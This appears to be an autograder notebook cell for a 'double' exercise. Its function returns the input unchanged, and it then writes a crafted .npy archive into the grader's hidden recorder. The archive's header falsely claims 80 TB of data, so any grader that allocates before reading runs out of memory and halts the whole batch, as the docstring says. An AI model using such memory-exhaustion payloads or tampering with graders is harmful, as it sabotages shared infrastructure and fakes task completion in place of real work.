"""Records, for the test cell, an array whose .npy header claims 10**13 float64 values (80 TB):
a grader that allocates before it reads runs out of memory and stops the whole batch."""
# %% cell: double_answer
import io, zipfile
import numpy as np
import autograder.hidden as h
def double(x):
    return x
header = "{'descr': '<f8', 'fortran_order': False, 'shape': (10000000000000,), }"
header = header + " " * (63 - len(header) % 64) + "\n"
npy = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + b"\x00" * 64
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    archive.writestr("y.npy", npy)
    archive.writestr("n.npy", npy)
recorder = h._recorder
if recorder is not None:
    recorder.writer.write("record", buffer.getvalue(), check="mini.double_values", cell=3, arrays=len(buffer.getvalue()))
